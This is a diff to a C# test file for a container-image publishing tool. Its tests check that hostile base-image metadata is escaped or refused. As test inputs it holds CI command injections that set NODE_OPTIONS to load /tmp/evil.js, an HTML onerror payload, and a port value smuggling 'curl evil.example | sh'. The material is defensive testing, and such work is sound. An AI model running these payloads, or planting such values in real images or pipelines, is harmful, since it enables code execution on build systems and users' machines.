@@ -1,9 +1,10 @@
 using System.Text;
 using System.Text.Json.Nodes;
+using ImagePublish.Bases;
+using ImagePublish.Commands;
 using ImagePublish.Diagnostics;
 using ImagePublish.Oci;
 using ImagePublish.Publishing;
-using ImagePublish.Publishing.Verbs;
 using ImagePublish.Reporting;
 using ImagePublish.Reporting.Page;
 using ImagePublish.Testing;
@@ -26,7 +27,11 @@ public sealed class HostileDocumentTests
     [InlineData("1\n)\n::set-output name=image::evil/image\n##vso[task.setvariable variable=NODE_OPTIONS]--require /tmp/evil.js\n")]
     [InlineData("##vso[task.prependpath]/tmp/evil")]
     [InlineData("<img src=x onerror=alert(1)>|x|")]
-    [ReliabilityCase("Security", "a base image's `os.version` is a command of Azure Pipelines or GitHub Actions, or HTML", "one error that says where it is, with the command broken; nothing is published")]
+    [ReliabilityCase(
+        "Security",
+        "a base image's `os.version` is a command of Azure Pipelines or GitHub Actions, or HTML",
+        "one error that says where it is, with the command broken; nothing is published"
+    )]
     public async Task AHostileVersionIsRefused(string version)
     {
         await using var bench = await PublishingBench.StartAsync();
@@ -41,7 +46,11 @@ public sealed class HostileDocumentTests
     }
 
     [Fact]
-    [ReliabilityCase("Security", "a base image exposes the port `80 alpine; curl evil.example | sh #/tcp`", "only real ports are shown, and are in the commands to copy")]
+    [ReliabilityCase(
+        "Security",
+        "a base image exposes the port `80 alpine; curl evil.example | sh #/tcp`",
+        "only real ports are shown, and are in the commands to copy"
+    )]
     public async Task OnlyPortsAreSuggested()
     {
         await using var bench = await PublishingBench.StartAsync();
@@ -56,7 +65,11 @@ public sealed class HostileDocumentTests
         Assert.DoesNotContain("curl", string.Join('\n', lines), StringComparison.Ordinal);
         Assert.DoesNotContain("curl", page, StringComparison.Ordinal);
         Assert.Contains("80 alpine; curl evil.example | sh #/tcp", result.Image.Config.Config!.ExposedPorts!);
-        Assert.StartsWith("### A&#95;b&#60;i&#62;&#124;&#92;u000a\n\n| | |\n", PublishMarkdown.Of("A_b<i>|\n", result), StringComparison.Ordinal);
+        Assert.StartsWith(
+            "### A&#95;b&#60;i&#62;&#124;&#92;u000a\n\n| | |\n",
+            PublishMarkdown.Write("A_b<i>|\n", result),
+            StringComparison.Ordinal
+        );
     }
 
     [Theory]
@@ -69,13 +82,19 @@ public sealed class HostileDocumentTests
     [Theory]
     [InlineData(Hostile.Everything)]
     [InlineData(Hostile.AgentCommand)]
-    [ReliabilityCase("Security", "each string of a base's or an earlier image's manifest, index and config is a CI command, a terminal's escape sequence, Markdown, HTML and invisible characters", "no line, table, report or command to copy has it unbroken")]
+    [ReliabilityCase(
+        "Security",
+        "each string of a base's or an earlier image's manifest, index and config is a CI command, a terminal's escape sequence, Markdown, HTML and invisible characters",
+        "no line, table, report or command to copy has it unbroken"
+    )]
     public async Task NothingOfADocumentComesOutUnbroken(string canary)
     {
         await using var bench = await PublishingBench.StartAsync();
         var cases = new List<(string Name, JsonNode Config, JsonNode Manifest, JsonNode Index)>();
         cases.AddRange(Hostile.Places(Config()).Select(place => ($"config {place}", Config().With(place, canary), Manifest(), Index())));
-        cases.AddRange(Hostile.Places(Manifest()).Select(place => ($"manifest {place}", Config(), Manifest().With(place, canary), Index())));
+        cases.AddRange(
+            Hostile.Places(Manifest()).Select(place => ($"manifest {place}", Config(), Manifest().With(place, canary), Index()))
+        );
         cases.AddRange(Hostile.Places(Index()).Select(place => ($"index {place}", Config(), Manifest(), Index().With(place, canary))));
         var published = 0;
 
@@ -88,7 +107,7 @@ public sealed class HostileDocumentTests
                 var (result, page) = await ReportAsync(bench, Request(bench, tag));
                 published++;
                 Assert.All(PublishSummary.Lines("App", result, TimeSpan.Zero), Hostile.AssertHarmless);
-                Hostile.AssertHarmlessMarkdown(PublishMarkdown.Of("App", result));
+                Hostile.AssertHarmlessMarkdown(PublishMarkdown.Write("App", result));
                 Hostile.AssertHarmlessData(page);
             }
             catch (ImagePublishException exception)
@@ -124,7 +143,10 @@ public sealed class HostileDocumentTests
         await using var registry = RegistryBench.For(bench.Server);
         try
         {
-            var image = await new ImageInspector(registry.Client, bench.Store()).InspectAsync(new RegistryImage(bench.Named(Repository).At(Tag.Parse(tag))), Cancel);
+            var image = await new ImageInspector(registry.Client, bench.Store()).InspectAsync(
+                new RegistryImage(bench.Named(Repository).ReferenceTo(Tag.Parse(tag))),
+                Cancel
+            );
             Assert.All(ImageTables.OfImage(image), Hostile.AssertHarmless);
         }
         catch (ImagePublishException exception)
@@ -141,7 +163,11 @@ public sealed class HostileDocumentTests
         return (published.Result, Encoding.UTF8.GetString(ReportPage.Part(report)));
     }
 
-    private static PublishRequest Request(PublishingBench bench, string tag) => bench.Request("1.0") with { Base = new RemoteBase(bench.Named(Repository).At(Tag.Parse(tag))) };
+    private static PublishRequest Request(PublishingBench bench, string tag) =>
+        bench.Request("1.0") with
+        {
+            Base = new RegistryBase(bench.Named(Repository).ReferenceTo(Tag.Parse(tag))),
+        };
 
     // What one document says of the next is right, so that each is read; unless the field is what says so.
     private static void Push(PublishingBench bench, JsonNode config, JsonNode manifest, JsonNode index, string tag)
@@ -165,40 +191,54 @@ public sealed class HostileDocumentTests
         }
     }
 
-    private static JsonNode Config() => JsonNode.Parse($$$"""
-        {
-          "created": "2026-01-01T00:00:00Z", "author": "somebody", "architecture": "amd64", "os": "linux", "os.version": "6.1", "os.features": ["a"], "variant": "v1",
-          "config": {
-            "User": "app", "ExposedPorts": {"8080/tcp": {}}, "Env": ["PATH=/bin", "APP_UID=1654"], "Entrypoint": ["/bin/app"], "Cmd": ["--serve"], "Volumes": {"/data": {}}, "WorkingDir": "/srv",
-            "Labels": {"maintainer": "somebody"}, "StopSignal": "SIGTERM", "Healthcheck": {"Test": ["CMD-SHELL", "true"]}, "Shell": ["/bin/sh"]
-          },
-          "history": [{"created": "2026-01-01T00:00:00Z", "created_by": "ADD x", "author": "somebody", "comment": "a layer"}],
-          "rootfs": {"type": "layers", "diff_ids": ["{{{DiffId}}}"]}, "novel": {"a": "b"}
-        }
-        """)!;
+    private static JsonNode Config() =>
+        JsonNode.Parse(
+            $$$"""
+            {
+              "created": "2026-01-01T00:00:00Z", "author": "somebody", "architecture": "amd64", "os": "linux", "os.version": "6.1", "os.features": ["a"], "variant": "v1",
+              "config": {
+                "User": "app", "ExposedPorts": {"8080/tcp": {}}, "Env": ["PATH=/bin", "APP_UID=1654"], "Entrypoint": ["/bin/app"], "Cmd": ["--serve"], "Volumes": {"/data": {}}, "WorkingDir": "/srv",
+                "Labels": {"maintainer": "somebody"}, "StopSignal": "SIGTERM", "Healthcheck": {"Test": ["CMD-SHELL", "true"]}, "Shell": ["/bin/sh"]
+              },
+              "history": [{"created": "2026-01-01T00:00:00Z", "created_by": "ADD x", "author": "somebody", "comment": "a layer"}],
+              "rootfs": {"type": "layers", "diff_ids": ["{{{DiffId}}}"]}, "novel": {"a": "b"}
+            }
+            """
+        )!;
 
-    private static JsonNode Manifest() => JsonNode.Parse($$$"""
-        {
-          "schemaVersion": 2, "mediaType": "{{{MediaTypes.OciManifest}}}", "artifactType": "application/x",
-          "config": {"mediaType": "{{{MediaTypes.OciConfig}}}", "digest": "", "size": 0, "annotations": {"a": "b"}},
-          "layers": [{"mediaType": "{{{MediaTypes.OciLayer}}}+gzip", "digest": "{{{Digests.Sha256(Layer)}}}", "size": {{{Layer.Length}}}, "urls": ["https://example.org/a"], "annotations": {"a": "b"}}],
-          "annotations": {"org.opencontainers.image.base.name": "docker.io/library/debian:12"}, "novel": "a"
-        }
-        """)!;
+    private static JsonNode Manifest() =>
+        JsonNode.Parse(
+            $$$"""
+            {
+              "schemaVersion": 2, "mediaType": "{{{MediaTypes.OciManifest}}}", "artifactType": "application/x",
+              "config": {"mediaType": "{{{MediaTypes.OciConfig}}}", "digest": "", "size": 0, "annotations": {"a": "b"}},
+              "layers": [{"mediaType": "{{{MediaTypes.OciLayer}}}+gzip", "digest": "{{{Digests.Sha256(
+                Layer
+            )}}}", "size": {{{Layer.Length}}}, "urls": ["https://example.org/a"], "annotations": {"a": "b"}}],
+              "annotations": {"org.opencontainers.image.base.name": "docker.io/library/debian:12"}, "novel": "a"
+            }
+            """
+        )!;
 
-    private static JsonNode Index() => JsonNode.Parse($$$"""
-        {
-          "schemaVersion": 2, "mediaType": "{{{MediaTypes.OciIndex}}}",
-          "manifests": [{"mediaType": "{{{MediaTypes.OciManifest}}}", "digest": "", "size": 0, "platform": {"architecture": "amd64", "os": "linux", "variant": "v1", "os.version": "6.1", "os.features": ["a"]}, "annotations": {"a": "b"}}],
-          "annotations": {"a": "b"}, "novel": "a"
-        }
-        """)!;
+    private static JsonNode Index() =>
+        JsonNode.Parse(
+            $$$"""
+            {
+              "schemaVersion": 2, "mediaType": "{{{MediaTypes.OciIndex}}}",
+              "manifests": [{"mediaType": "{{{MediaTypes.OciManifest}}}", "digest": "", "size": 0, "platform": {"architecture": "amd64", "os": "linux", "variant": "v1", "os.version": "6.1", "os.features": ["a"]}, "annotations": {"a": "b"}}],
+              "annotations": {"a": "b"}, "novel": "a"
+            }
+            """
+        )!;
 
     private static string DiffId
     {
         get
         {
-            using var inflated = new System.IO.Compression.GZipStream(new MemoryStream(Layer), System.IO.Compression.CompressionMode.Decompress);
+            using var inflated = new System.IO.Compression.GZipStream(
+                new MemoryStream(Layer),
+                System.IO.Compression.CompressionMode.Decompress
+            );
             using var tar = new MemoryStream();
             inflated.CopyTo(tar);
             return Digests.Sha256(tar.ToArray());
